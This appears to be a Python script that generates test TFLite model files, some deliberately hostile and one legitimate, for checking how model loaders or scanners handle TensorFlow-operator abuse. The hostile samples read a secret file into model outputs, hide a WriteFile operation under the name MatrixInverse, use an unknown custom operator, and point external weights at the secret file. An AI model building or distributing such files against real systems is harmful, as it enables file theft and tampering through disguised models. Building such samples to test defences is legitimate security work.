"""TFLite files whose operators are TensorFlow's and touch files: `python tflite_files.py FOLDER`."""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

os.environ["CUDA_VISIBLE_DEVICES"] = "-1"

import flatbuffers
import numpy as np
import tensorflow as tf
from flatbuffers import flexbuffers
from places import Place, make_all
from tensorflow.core.framework import node_def_pb2
from tensorflow.lite.python import schema_py_generated as schema


def converted(function: Callable[[Any], Any]) -> bytes:
    """A function of a 4x4 matrix as TFLite, with TensorFlow's operators where TFLite has none."""
    concrete = tf.function(
        function, input_signature=[tf.TensorSpec([4, 4], tf.float32, name="x")]
    ).get_concrete_function()
    converter = tf.lite.TFLiteConverter.from_concrete_functions([concrete], tf.Module())
    converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
    return converter.convert()


def changed(content: bytes, change: Callable[[schema.ModelT], None]) -> bytes:
    """A file with its tables changed."""
    model = schema.ModelT.InitFromObj(schema.Model.GetRootAs(content))
    change(model)
    builder = flatbuffers.Builder(1024)
    builder.Finish(model.Pack(builder), b"TFL3")
    return bytes(builder.Output())


def write(place: Place, content: bytes) -> None:
    """The model's file."""
    (place.model / "model.tflite").write_bytes(content)


def file_read(place: Place) -> None:
    """FlexReadFile, whose bytes reach the outputs."""
    write(place, converted(lambda x: x + tf.io.decode_raw(tf.io.read_file(place.secret), tf.float32)[0]))


def under_another_name(place: Place) -> None:
    """An operator that the file's list calls MatrixInverse, and whose own options say WriteFile."""

    def change(model: schema.ModelT) -> None:
        for operator in model.subgraphs[0].operators:
            if operator.customOptions is not None:
                node = node_def_pb2.NodeDef(name="WriteFile", op="WriteFile", input=["", ""])
                builder = flexbuffers.Builder()
                with builder.Vector():
                    builder.String("MatrixInverse")
                    builder.String(node.SerializeToString().decode("latin-1"))
                operator.customOptions = np.frombuffer(bytes(builder.Finish()), np.uint8)

    write(place, changed(converted(tf.linalg.inv), change))


def unknown_operator(place: Place) -> None:
    """An operator of somebody's own."""

    def change(model: schema.ModelT) -> None:
        for code in model.operatorCodes:
            if code.customCode:
                code.customCode = b"Somebodys"

    write(place, changed(converted(tf.linalg.inv), change))


def weights_elsewhere(place: Place) -> None:
    """Weights that lie in a file which the model names."""

    def change(model: schema.ModelT) -> None:
        group = schema.ExternalBufferGroupT()
        group.name = place.secret
        model.externalBufferGroups = [group]

    write(place, changed(converted(tf.nn.relu), change))


ATTACKS = {one.__name__: one for one in (file_read, under_another_name, unknown_operator, weights_elsewhere)}

if __name__ == "__main__":
    make_all(ATTACKS, Path(sys.argv[1]))
    (Path(sys.argv[1]) / "legitimate.tflite").write_bytes(converted(lambda x: tf.linalg.inv(x + 5.0 * tf.eye(4))))
